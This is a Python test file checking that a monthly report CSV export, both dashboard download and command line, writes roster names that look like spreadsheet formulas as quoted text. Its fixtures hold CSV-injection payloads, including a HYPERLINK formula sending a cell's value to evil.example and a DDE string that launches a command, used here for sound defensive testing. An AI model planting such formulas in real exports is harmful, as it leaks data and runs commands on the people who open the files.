"""The report CSV opens safely in a spreadsheet: names from the roster that a spreadsheet
would run as a formula are written as text, in the dashboard's download and in
`report monthly --csv` alike (OWASP's CSV injection advice: a leading `'`)."""

from __future__ import annotations

import csv
import io

import pytest

from services.core.csv_safe import FORMULA_STARTS
from tests.support.clock import wib
from tests.support.dashboard import CITY, file_ticket, log_in, sweep_at
from tests.support.files import SAMPLE_ROSTER

OFFICER = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
BACKUP = "@SUM(1+1)*cmd|' /C calc'!A0"
KECAMATAN = "+Kecamatan Jahat"
KELURAHAN = "-2+3 Kelurahan"
HOSTILE_ROWS = (
    f'officer,"{OFFICER.replace(chr(34), chr(34) * 2)}",0812-0000-0401,{KECAMATAN},'
    f"{KELURAHAN},1,5000000\n"
    f"backup,\"{BACKUP}\",0812-0000-0402,{KECAMATAN},{KELURAHAN},1,4000000\n")


@pytest.fixture
def hostile_roster(runner, tmp_path, rt, clock):
    """The sample roster plus an RW whose officer, backup and places are formulas; one of
    its tickets is breached in November 2026 (so it has a compensation row too)."""
    path = tmp_path / "roster.csv"
    path.write_text(SAMPLE_ROSTER.read_text(encoding="utf-8") + HOSTILE_ROWS, encoding="utf-8")
    result = runner.invoke(args=["roster", "import", str(path)])
    assert result.exit_code == 0, result.output
    file_ticket(rt, clock, wib(2026, 11, 23, 10), kelurahan=KELURAHAN, rw=1)
    sweep_at(rt, clock, wib(2026, 11, 25, 11))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutralised(text: str) -> None:
    cells = _cells(text)
    runnable = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert runnable == [], runnable
    for value in (OFFICER, BACKUP, KECAMATAN, KELURAHAN):
        assert "'" + value in cells, value
    assert "'" + KELURAHAN + " RW 1" in cells   # the RW label starts with the kelurahan


def test_the_dashboard_download_neutralises_formulas(client, rt, hostile_roster):
    log_in(client, rt, CITY)
    response = client.get("/dashboard/report.csv?month=2026-11")
    assert response.status_code == 200
    _assert_neutralised(response.get_data(as_text=True))


def test_the_cli_csv_neutralises_formulas(runner, tmp_path, hostile_roster):
    out = tmp_path / "laporan.csv"
    result = runner.invoke(args=["report", "monthly", "--month", "2026-11", "--csv", str(out)])
    assert result.exit_code == 0, result.output
    _assert_neutralised(out.read_text(encoding="utf-8"))


def test_ordinary_names_and_numbers_are_written_as_they_are(client, rt, hostile_roster):
    log_in(client, rt, CITY)
    rows = list(csv.reader(io.StringIO(
        client.get("/dashboard/report.csv?month=2026-11").get_data(as_text=True))))
    siti = next(row for row in rows if row and row[0] == "Siti Rahmawati")
    assert siti[1] == "0812****0101" and siti[-2:] == ["5200000", "5200000"]
    assert ["#1", "KTP", "'" + KELURAHAN + " RW 1"] == rows[-1][:3]
